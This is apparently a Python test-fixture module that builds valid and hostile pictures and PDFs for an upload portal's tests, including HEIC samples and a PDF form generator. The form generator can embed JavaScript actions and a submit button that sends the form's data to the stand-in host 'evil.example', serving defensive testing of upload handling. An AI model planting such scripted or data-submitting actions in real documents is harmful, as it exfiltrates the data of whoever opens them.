"""Small files for the upload tests: valid and hostile pictures and PDFs."""

import base64
import io

import pikepdf
from PIL import Image, ImageDraw


def picture(kind="JPEG", size=(400, 300), mode="RGB", colour="white", **options):
    """Bytes of a one-colour picture."""
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, kind, **options)
    return out.getvalue()


def pdf(pages=1, change=None, **options):
    """Bytes of a PDF with blank pages; `change(pdf)` may add objects."""
    out = io.BytesIO()
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    document.save(out, **options)
    return out.getvalue()


# 120 × 80, a black and a red bar on white, as a phone writes it (the portal can read HEIC, not write it).
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAVZtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAACJpbG9jAAAAAERAAAEA"
    "AQAAAAABegABAAAAAAAAAP8AAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABodmMxAAAAAA5waXRtAAAAAAABAAAA1mlwcnAAAAC3aXBjbwAAAHhodmND"
    "AQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQArQgEBA3AAAAMAkAAAAwAAAwAeoDyBRZbqSSmubgIaDAgA"
    "AAMAyAAAAwAIQGIAAQAHRAHBcrAiQAAAABNjb2xybmNseAABAA0ABoAAAAAUaXNwZQAAAAAAAAB4AAAAUAAAABBwaXhpAAAAAAMICAgAAAAXaXBtYQAAAAAA"
    "AAABAAEEgQIDBAAAAQdtZGF0AAAA+ygBrxOA1sfoLbK7E3H20JT/jxQR11sONqBWY9N0pMb+RCWjZQDaXWPvyGDUgKS4HHoYGPK4Fe/nyidSe1TAGpjGAC1w"
    "NMc7AVcqcoDV9XWP//+T6v73/If///dyABDNv1luZEC91Q7GoQ6AATll7HW8Bt3dDRrfjQVsR1n5wujxkeC17FhhoAEZFy7f+UDmt7skYnzwgvtC3mUhtjiP"
    "0p8n5Edv53epdE/ZAnqe1GGsTNg6YnX1p8BHJS+GdlEU84I7TrL2pzBEdavGGYy1/FZaHtG0iyfYG7GJl5eaPYYo2bybACSOwFo1XtevLv4De0yfoUsR6f5e"
    "eFYW"
)


# 120 × 96 as an iPhone writes it: a grid of four tiles, turned by its own property and named so in Exif, with a thumbnail and an
# HDR gain map beside the picture. Made for these tests.
HEIC_OF_AN_IPHONE = base64.b64decode(
    "AAAAKGZ0eXBoZWljAAAAAG1pZjFNaUhFTWlQcm1pYWZNaUhCaGVpYwAABD5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5w"
    "aXRtAAAAAAAFAAAAtmlpbmYAAAAAAAgAAAAVaW5mZQIAAAEAAQAAaHZjMQAAAAAVaW5mZQIAAAEAAgAAaHZjMQAAAAAVaW5mZQIAAAEAAwAAaHZjMQAAAAAV"
    "aW5mZQIAAAEABAAAaHZjMQAAAAAVaW5mZQIAAAAABQAAZ3JpZAAAAAAVaW5mZQIAAAEABgAAaHZjMQAAAAAVaW5mZQIAAAEABwAAaHZjMQAAAAAVaW5mZQIA"
    "AAAACAAARXhpZgAAAABKaXJlZgAAAAAAAAAUZGltZwAFAAQAAQACAAMABAAAAA50aG1iAAYAAQAFAAAADmF1eGwABwABAAUAAAAOY2RzYwAIAAEABQAAAmNp"
    "cHJwAAACH2lwY28AAAB4aHZjQwEDcAAAAJAAAAAAAB7wAPz9+PgAAA8DYAABABhAAQwB//8DcAAAAwCQAAADAAADAB66AkBhAAEAK0IBAQNwAAADAJAAAAMA"
    "AAMAHqAggQWW6kkprm4CGgwIAAADAMgAAAMACEBiAAEAB0QBwXKwIkAAAAAUaXNwZQAAAAAAAABAAAAAQAAAABNjb2xybmNseAAMAA0ABoAAAAAUaXNwZQAA"
    "AAAAAAB4AAAAYAAAABBwaXhpAAAAAAMICAgAAAAJaXJvdAMAAAB5aHZjQwEDcAAAAJAAAAAAADzwAPz9+PgAAA8DYAABABhAAQwB//8DcAAAAwCQAAADAAAD"
    "ADy6AkBhAAEALEIBAQNwAAADAJAAAAMAAAMAPKAKCAQFlupJKa5uAhoMCAAAAwDIAAADAAhAYgABAAdEAcFysGJAAAAAFGlzcGUAAAAAAAABQAAAAQAAAAB2"
    "aHZjQwEDcAAAAJAAAAAAAB7wAPz9+PgAAA8DYAABABhAAQwB//8DcAAAAwCQAAADAAADAB66AkBhAAEAKkIBAQNwAAADAJAAAAMAAAMAHqAggQWW6uSmubgI"
    "aDAgAAADAyAAAAMAIWIAAQAGRAHBc8CJAAAAFGlzcGUAAAAAAAAAPAAAADAAAAA0YXV4QwAAAAB1cm46Y29tOmFwcGxlOnBob3RvOjIwMjA6YXV4Omhkcmdh"
    "aW5tYXAAAAAAPGlwbWEAAAAAAAAABwABA4ECAwACA4ECAwADA4ECAwAEA4ECAwAFBAMEBYYABgOHCIYABwSJCguGAAAAEGlkYXQAAAEBAHgAYAAAAJBpbG9j"
    "AQAAAEQAAAgAAQAAAAAAAQAABG4AAACfAAIAAAAAAAEAAAUNAAAA0QADAAAAAAABAAAF3gAAAD4ABAAAAAAAAQAABhwAAACPAAUAAQAAAAEAAAAAAAAACAAG"
    "AAAAAAABAAAGqwAAA2QABwAAAAAAAQAACg8AAADKAAgAAAAAAAEAAArZAAAATAAABr9tZGF0AAAAmygBr1gQkY1a0J1fP3ON3I/ShEfxHsDuVMs4pLnHbJQP"
    "/bXzaOLprvXfGKmpQ0ilYtkNMQo+PtfjGWTM362flQjhF9kelG/0bauElLz5vlWbwWq5VLecbcn/6wCsWUBbrDnhbV0CmniJKzPx0ditTl8ffhaA+cnNtfFy"
    "91xSg82/foz41JihceL3lreYd05UEdcyn5gnv/BmUs5AAAAAzSgBr1ihlabK6T7CgZvaUDsJ03FRhuROaFmnUA6UuC85nO3YGxpOn7yJVe6t5XS+gbZpgNxJ"
    "150qAZnr7m+RTHRL9Eziuq4siB/PAGU7ICT/Rx69KQWSEKGfsjmgsyxJB8nLIHwNgAp/ZwoAPUCYODec7E3sjwep6uxEFoMT6G5q07sH1gCqseNJrCDQorh8"
    "EPYsrS4vMGgE2O6WE4eN3gf4Zl9c4NAMHH567HGX3q6e5K7MwxJ295BB66rDmetLu2KBZGsyhR+Gjd2/fQYAAAA6KAGvWAr9IYWcrsfulXlFlyM1rok5wgdg"
    "AlwXJIVzNWXfCUDtvbMJg4rhJra6QAc03Tr/lQCh3Fx8+AAAAIsoAa9Yn8abK5/oDfs2/psczh5Bjca2Y05OXDnG8jh5vXz4zY23AQtwNs27FF9MpA5r4Ldj"
    "XnfVewl3VePJw4K7CfXtHZmXJoGOtTEEMh2OzdtT3aePKjHm0KyPRyZC0QALTEn3HrXAt4rh3johoHyjzCrfkHHq2cLUGXs2yrrpi+x0WAZ2LLivgq5AAAAD"
    "YCgBr1II9NfagCdQm9ykf7oFVI/tDfmwJrDxMw9oVFFEWnL1+5BKdJ8quA9TtwXIcDBdn+8v6KHsecQ5tzFWWpgbwsY2Ro4r01XEBarVniyKNCuJPn1GGSR1"
    "HU4IT6c8zH9lnOC4vyucjHiiU+xE4F2MmTEZNcExY4YGnRaS6CvJ3Cf8aS2nExNeowRGkoO0xaVYAIPW4XaJ+ZpNODlz5rQbPuaxp5WjU2VVnANF+2ZJyyjw"
    "w15rXgJH9/jntOGz6BF+71mEQ1AAzRR3AnIflMqUAhW8xNfn2aTVniK843/FlH1JRQ4SixxhlGBuQoNCvp4okrKciIH4GZswT1OFKwbVntNhNqI6Z2MR9jXR"
    "zuPindCQOx07CRgmtHRRHdquMqDA6s8XlUZUeeCtHdypdZf2QQhjW8fvBt0GSmrR5bQM1uk4tqDuhYDaro6tMlSyYlrImPHlPBCNHhWMtO6dNuUK7Pvard5T"
    "SrxSHEvTkf8hxoZ5af6ji163SV/XcRg0IBktAAEJAlxN7uZ1RJeELWYW5BcPpfPoK8hTT1T5gABd7fHx7QoV+l4r9w+CaRJkELFy6Tv+6RoSTnFm1C62RMZi"
    "aNl3upm+B7UbgdlzgbQaPwLk3XqnviVuFWsT5DETk8YWWwN0+0iuu8oA2FHWHZtIk9q4HCc7NsujnRJ+RelG4bJpJmKIc4JD8Ne3qSIOnjrSTvxFT5htstxm"
    "xkDs0Xvjf9PxIcofsIrm2duaSgYw9T0Ae7URGEZ9uRXDfxL9kXiJBCrnCuIpzAUcHvj6Ri6nBEjXKYSaul5UAuSimbowodyTdMw0JVX/gOVGWrmtvMCipF79"
    "gMfBfOIEbBxNXKPg0qj6HQGt660L+YAv7kn/lArf5zTjhBtKFV1Lm6GspukQpzA/7qWSPxkZMPSqfzhovOxCUnAaKFvebwVpvZLtVoH0Oil39bRILKdTUyEd"
    "kDkQ4aUlBb3m8CrGtft+95rvLwFHRzClfAB8CUhtRvdXH4g78h9Z7JLoXaD9xn5eaHGcC0usIkNrJc8vclysdXMSamPH1XYwcXTBarGIxq/CRhNqSmSmcJuL"
    "wOigjviizxq9G/L2vDtwzrv5H4AC9zs+15hgWqCGU6Y6tnPl011Vt9RlMuMOYIN3v2ffLcLkIAAAAMYoAa8ZgP12NFNC+d22fgBJc9XASeoomujNETdN9Mid"
    "ruzXI2TTxwaejtJQc8Wizubt9Ex1fYP1pyZqBWDI+ChWyLC6WbANKj/YhJZN7/l1khQIkNwmNDxHFuh0Zm5f6B4Hjk4TcOhQWBriRy1+ykSmy6jSkrzssEmZ"
    "rIKtWPlbrzvqC5QBoKDANsstM+4a1OOsqcru4fL7quolU7ONDU1LPKJN5Jz18fSaj/tU0MeIgZBSf8FQVpfpSQ/8A52Ld0YOCAbpOGkAAAAGRXhpZgAATU0A"
    "KgAAAAgAAwEPAAIAAAAGAAAAMgEQAAIAAAAKAAAAOAESAAMAAAABAAYAAAAAAABBcHBsZQBpUGhvbmUgMTUA"
)


def form(*, answer="Nguyễn Văn An", drawn=True, later=False, script=True, submit=False):
    """Bytes of a PDF form with one filled-in field; `drawn`: it has an appearance, with the text «An 1234»."""

    def change(document):
        def drawing(text):
            content = f"BT /F1 12 Tf 2 5 Td ({text}) Tj ET".encode()
            font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
            drawn = document.make_stream(content, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 20])
            drawn.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            return pikepdf.Dictionary(N=drawn)

        def widget(top, **facts):
            facts |= {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Widget, "F": 4, "Rect": [100, top, 300, top + 20]}
            return document.make_indirect(pikepdf.Dictionary(**facts))

        command = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="AFSimple_Calculate('SUM')")
        fields = [widget(700, FT=pikepdf.Name.Tx, T="name", V=answer)]
        if drawn:
            fields[0].AP = drawing("An 1234")
        if script:
            fields[0].AA = pikepdf.Dictionary(C=command)
            document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", command])))
        if submit:
            send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")
            fields.append(widget(600, FT=pikepdf.Name.Btn, Ff=65536, T="send", A=send, AP=drawing("Send")))
        document.pages[0].Annots = pikepdf.Array(fields)
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(fields), NeedAppearances=later)

    return pdf(change=change)


def written_page(mode="L", size=(600, 450)):
    """A Pillow picture with dark lines on light paper."""
    page = Image.new("L", size, 250)
    draw = ImageDraw.Draw(page)
    for y in range(30, size[1] - 30, 30):
        draw.rectangle((40, y, size[0] - 40 - y * 7 % 150, y + 9), fill=20)
    return page.convert(mode) if mode != "I;16" else page.convert("I").point(lambda value: value * 257).convert("I;16")


def saved(page, kind="PNG", **options):
    """Bytes of a Pillow picture."""
    out = io.BytesIO()
    page.save(out, kind, **options)
    return out.getvalue()
